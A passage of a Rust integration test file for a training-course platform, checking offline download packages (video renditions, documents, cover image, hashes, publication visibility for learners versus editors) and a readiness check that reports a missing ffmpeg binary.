    let c = course(&app, "widyaiswara@bkpsdm.go.id", "RISK-109").await;
    let dir = tempfile::tempdir().unwrap();
    let video = clip(dir.path(), "320x240").await;
    let cover = ffmpeg(
        dir.path(),
        &[
            "-f",
            "lavfi",
            "-i",
            "testsrc=size=640x360",
            "-frames:v",
            "1",
        ],
        "cover.png",
    )
    .await;
    let doc = pdf(2, 5000);

    let v = upload(&app, &c.trainer, &c.video, "sesi.mp4", "video/mp4", &video).await;
    let d = upload(
        &app,
        &c.trainer,
        &c.document,
        "bahan.pdf",
        "application/pdf",
        &doc,
    )
    .await;
    let body = app
        .gql(
            Some(&c.trainer),
            &create_cover_upload(),
            json!({"c": c.course, "n": "sampul.png", "t": "image/png", "s": cover.len(), "h": sha256_hex(&cover)}),
        )
        .await;
    let session = body["data"]["createCoverUpload"].clone();
    assert_eq!(session["purpose"], "COVER", "{body}");
    put_parts(&app, &session, &cover, None).await;
    let cv = app
        .ok(Some(&c.trainer), &complete(), json!({"id": session["id"]}))
        .await["completeUpload"]
        .clone();
    for done in [&v, &d, &cv] {
        let m = settled(&app, &c.trainer, done["material"]["id"].as_str().unwrap()).await;
        assert_eq!(m["state"], "READY", "{m}");
    }
    let cover_material = settled(&app, &c.trainer, cv["material"]["id"].as_str().unwrap()).await;
    assert_eq!(
        (
            cover_material["width"].as_i64(),
            cover_material["height"].as_i64()
        ),
        (Some(640), Some(360))
    );

    // The source is 240p: asking for 360p gives its best, 240p.
    let pkg = app
        .ok(
            Some(&c.trainer),
            OFFLINE,
            json!({"c": c.course, "r": "360p"}),
        )
        .await["offlinePackage"]
        .clone();
    let files = pkg["files"].as_array().unwrap();
    let paths: Vec<&str> = files.iter().map(|f| f["path"].as_str().unwrap()).collect();
    let lesson_dir = format!("lessons/{}", c.video);
    assert!(paths.contains(&"cover.png"), "{paths:?}");
    assert!(
        paths.contains(&format!("lessons/{}/document.pdf", c.document).as_str()),
        "{paths:?}"
    );
    assert!(
        paths.contains(&format!("{lesson_dir}/240p/index.m3u8").as_str()),
        "{paths:?}"
    );
    assert!(
        paths.contains(&format!("{lesson_dir}/poster.jpg").as_str()),
        "{paths:?}"
    );
    assert!(
        paths
            .iter()
            .any(|p| p.starts_with(&format!("{lesson_dir}/240p/seg-"))),
        "{paths:?}"
    );
    assert_eq!(pkg["unavailableLessonIds"], json!([]));
    // Each file names the material it is made from, for the phone's progress events.
    for f in files {
        let made_from = match f["lessonId"].as_str() {
            None => &cv,
            Some(l) if l == c.video => &v,
            Some(_) => &d,
        };
        assert_eq!(f["materialId"], made_from["material"]["id"], "{f}");
    }

    let mut total = 0;
    let mut playlist = String::new();
    for f in files {
        let resp = app
            .client
            .get(f["url"].as_str().unwrap())
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status().as_u16(), 200, "{f}");
        let bytes = resp.bytes().await.unwrap();
        assert_eq!(bytes.len() as i64, f["sizeBytes"].as_i64().unwrap(), "{f}");
        assert_eq!(sha256_hex(&bytes), f["sha256"].as_str().unwrap(), "{f}");
        total += bytes.len() as i64;
        if f["role"] == "PLAYLIST" {
            playlist = String::from_utf8(bytes.to_vec()).unwrap();
        }
    }
    assert_eq!(pkg["totalBytes"].as_i64(), Some(total));
    // The playlist names its segments relatively, and each is in the package beside it.
    for seg in playlist
        .lines()
        .filter(|l| !l.starts_with('#') && !l.is_empty())
    {
        assert!(
            paths.contains(&format!("{lesson_dir}/240p/{seg}").as_str()),
            "{seg}"
        );
    }
    let doc_file = files.iter().find(|f| f["role"] == "DOCUMENT").unwrap();
    assert_eq!(doc_file["sha256"], sha256_hex(&doc));

    // Once the course is out, a lesson added later is in its editors' package only, until it
    // is published.
    app.ok(
        Some(&c.trainer),
        "mutation($id: ID!) { submitCourseForReview(id: $id) { state } }",
        json!({"id": c.course}),
    )
    .await;
    app.ok(
        Some(&c.admin),
        "mutation($id: ID!) { approveCourse(id: $id) { state } }",
        json!({"id": c.course}),
    )
    .await;
    let module = id(&app
        .ok(
            Some(&c.trainer),
            "query($id: ID!) { course(id: $id) { modules { id } } }",
            json!({"id": c.course}),
        )
        .await["course"]["modules"][0]["id"]);
    let extra = id(&app
        .ok(
            Some(&c.trainer),
            "mutation($m: ID!, $i: CreateLessonInput!) { createLesson(moduleId: $m, input: $i) { id } }",
            json!({"m": module, "i": {"title": "Bahan tambahan", "kind": "DOCUMENT"}}),
        )
        .await["createLesson"]["id"]);
    let more = pdf(3, 100);
    let added = upload(
        &app,
        &c.trainer,
        &extra,
        "tambahan.pdf",
        "application/pdf",
        &more,
    )
    .await;
    let m = settled(&app, &c.trainer, added["material"]["id"].as_str().unwrap()).await;
    assert_eq!(m["state"], "READY", "{m}");
    let cohort = id(&app
        .ok(
            Some(&c.admin),
            "mutation($c: ID!, $i: CreateCohortInput!) { createCohort(courseId: $c, input: $i) { id } }",
            json!({"c": c.course, "i": {"name": "Angkatan I"}}),
        )
        .await["createCohort"]["id"]);
    let (_, learner) = app
        .signed_in(&c.admin, "asn@dinkes.go.id", &["LEARNER"], None)
        .await;
    app.ok(
        Some(&learner),
        "mutation($c: ID!) { enroll(cohortId: $c) { state } }",
        json!({"c": cohort}),
    )
    .await;
    let extra_file = format!("lessons/{extra}/document.pdf");
    let listed = |token: String| {
        let (app, course) = (&app, c.course.clone());
        async move {
            app.ok(Some(&token), OFFLINE, json!({"c": course, "r": "240p"}))
                .await["offlinePackage"]["files"]
                .as_array()
                .unwrap()
                .iter()
                .map(|f| f["path"].as_str().unwrap().to_owned())
                .collect::<Vec<String>>()
        }
    };
    let theirs = listed(learner.clone()).await;
    assert!(!theirs.contains(&extra_file), "{theirs:?}");
    assert_eq!(theirs.len(), files.len(), "the rest as before");
    assert!(listed(c.trainer.clone()).await.contains(&extra_file));
    app.ok(
        Some(&c.trainer),
        "mutation($id: ID!) { publishLesson(id: $id) { id } }",
        json!({"id": extra}),
    )
    .await;
    assert!(listed(learner).await.contains(&extra_file));

    let r = app
        .gql(
            Some(&c.trainer),
            OFFLINE,
            json!({"c": c.course, "r": "1080p"}),
        )
        .await;
    assert_eq!(error_code(&r).as_deref(), Some("BAD_USER_INPUT"));
    assert_eq!(r["errors"][0]["extensions"]["field"], "rendition");
}

#[tokio::test]
async fn readiness_says_plainly_when_ffmpeg_is_missing() {
    let app = TestApp::spawn().await;
    let ok = app
        .client
        .get(format!("{}/readyz", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(ok.status().as_u16(), 200);
    assert_eq!(ok.json::<Value>().await.unwrap()["videoProcessing"], "ok");

    let mut opts = Options::default();
    opts.overrides.course = Some(course::CourseSettings {
        ffmpeg: "/nonexistent/bin/ffmpeg".into(),
        ..Default::default()
    });
    let broken = TestApp::spawn_with(opts).await;
    let r = broken
        .client
        .get(format!("{}/readyz", broken.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 503);
    assert_eq!(
        r.json::<Value>().await.unwrap()["videoProcessing"],
        "ffmpeg not found"
    );
}
